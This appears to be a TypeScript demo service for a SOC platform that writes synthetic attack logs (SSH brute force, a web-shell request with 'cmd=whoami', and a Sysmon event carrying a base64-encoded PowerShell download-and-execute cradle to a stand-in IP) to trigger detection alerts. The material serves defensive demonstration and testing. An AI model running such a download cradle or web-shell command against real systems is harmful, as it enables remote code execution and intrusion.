/**
 * The demo `npm start` runs next to the services: a scripted attack written as log files and
 * shipped by the real endpoint agent (in this process, agent id `demo-portal-<start time>`), so a newcomer
 * sees alerts within seconds of "SOC ready" — an SSH brute force then a successful login, a
 * web shell on the public portal, an encoded PowerShell download on a workstation. Times are
 * the present and each start is a new agent (its id names the start), so every start raises
 * fresh alerts: an agent id with a sequence starting again at 1 would be taken for the last
 * start's events replayed, and deduplicated (JetStream's window, the document `_id`). Files
 * and agent state: `<var>/demo/`.
 */
import { mkdirSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { endpointConfigSchema, startEndpointAgent } from '@soc/agent-endpoint';
import { baseServiceSchema, flag, httpSchema, runService } from '@soc/core';
import { varDir } from '@soc/stack';
import { z } from 'zod';
import { DEMO_PORTAL_HOST, DEMO_WORKSTATION } from './demo-data.ts';

const schema = baseServiceSchema.extend({
  http: httpSchema.extend({ port: httpSchema.shape.port.default(8089) }).prefault({}),
  demo: z.object({ enabled: flag.default(true), agentId: z.string().optional() }).prefault({}),
});

const ZONE = 'Asia/Ho_Chi_Minh';
function parts(d: Date): Record<string, string> {
  const f = new Intl.DateTimeFormat('en-US', {
    timeZone: ZONE,
    month: 'short',
    day: '2-digit',
    year: 'numeric',
    hour: '2-digit',
    minute: '2-digit',
    second: '2-digit',
    hourCycle: 'h23',
  });
  return Object.fromEntries(f.formatToParts(d).map((p) => [p.type, p.value]));
}
/** `Nov 25 17:12:01`, as syslog writes local time. */
const syslogTime = (d: Date) => {
  const p = parts(d);
  return `${p.month} ${p.day!.padStart(2, ' ')} ${p.hour}:${p.minute}:${p.second}`;
};
/** `25/Nov/2026:17:12:01 +0700`, as nginx writes it. */
const clfTime = (d: Date) => {
  const p = parts(d);
  return `${p.day}/${p.month}/${p.year}:${p.hour}:${p.minute}:${p.second} +0700`;
};

export function demoFiles(now: Date): { auth: string[]; nginx: string[]; sysmon: string[] } {
  const at = (s: number) => new Date(now.getTime() - 60_000 + s * 1000);
  const attacker = '203.0.113.66';
  const auth = [
    ...Array.from(
      { length: 6 },
      (_, i) =>
        `${syslogTime(at(i * 2))} ${DEMO_PORTAL_HOST} sshd[${4100 + i}]: Failed password for root from ${attacker} port ${52100 + i} ssh2`,
    ),
    `${syslogTime(at(15))} ${DEMO_PORTAL_HOST} sshd[4110]: Accepted password for root from ${attacker} port 52110 ssh2`,
    `${syslogTime(at(20))} ${DEMO_PORTAL_HOST} sshd[4111]: Accepted publickey for deploy from 10.10.0.5 port 40022 ssh2: ED25519 SHA256:demo`,
  ];
  const nginx = [
    `10.10.5.20 - - [${clfTime(at(25))}] "GET /tin-tuc/thong-bao-lich-tiep-cong-dan.html HTTP/1.1" 200 18342 "-" "Mozilla/5.0"`,
    `${attacker} - - [${clfTime(at(30))}] "POST /wp-content/uploads/2026/11/thumb.php HTTP/1.1" 200 31 "-" "Mozilla/5.0"`,
    `${attacker} - - [${clfTime(at(31))}] "GET /wp-content/uploads/2026/11/thumb.php?cmd=whoami HTTP/1.1" 200 18 "-" "Mozilla/5.0"`,
  ];
  const sysmon = [
    JSON.stringify({
      '@timestamp': at(40).toISOString(),
      winlog: {
        channel: 'Microsoft-Windows-Sysmon/Operational',
        event_id: 1,
        provider_name: 'Microsoft-Windows-Sysmon',
        computer_name: DEMO_WORKSTATION,
        event_data: {
          Image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
          OriginalFileName: 'PowerShell.EXE',
          CommandLine: `powershell.exe -NoP -W Hidden -enc ${Buffer.from("IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.66/a.ps1')", 'utf16le').toString('base64')}`,
          ParentImage: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
          User: 'UBND\\ketoan03',
          ProcessId: '7312',
        },
      },
    }),
  ];
  return { auth, nginx, sysmon };
}

await runService({
  name: 'demo',
  schema,
  async start(ctx) {
    if (!ctx.config.demo.enabled) return;
    const dir = varDir('demo');
    // a fresh agent each start: the files are rewritten, the attack replayed
    rmSync(dir, { recursive: true, force: true });
    mkdirSync(join(dir, 'logs'), { recursive: true });
    const agentId = ctx.config.demo.agentId ?? `demo-portal-${Date.now().toString(36)}`;
    const files = demoFiles(new Date());
    for (const [name, lines] of Object.entries(files))
      writeFileSync(join(dir, 'logs', `${name}.log`), `${lines.join('\n')}\n`);
    const input = (name: string, format: 'lines' | 'json') => ({
      name,
      type: 'file',
      paths: [join(dir, 'logs', `${name}.log`)],
      format,
    });
    const config = endpointConfigSchema.parse({
      // It stands for the agent on the portal server: the web log names no host, so its
      // events are the agent host's, which the demo's asset registry knows as the portal.
      agent: { id: agentId, dataDir: join(dir, 'agent'), hostName: DEMO_PORTAL_HOST },
      nats: ctx.config.nats,
      log: { level: 'warn' },
      inputs: [input('auth', 'lines'), input('nginx', 'lines'), input('sysmon', 'json')],
    });
    const agent = await startEndpointAgent(config, ctx.logger);
    ctx.shutdown.add('demo agent', () => agent.stop());
    ctx.logger.info(
      { agent: config.agent.id, files: join(dir, 'logs') },
      'demo: replaying a scripted attack (SSH brute force then success, a web shell, an encoded PowerShell download); alerts appear in the alerts index within seconds',
    );
  },
});
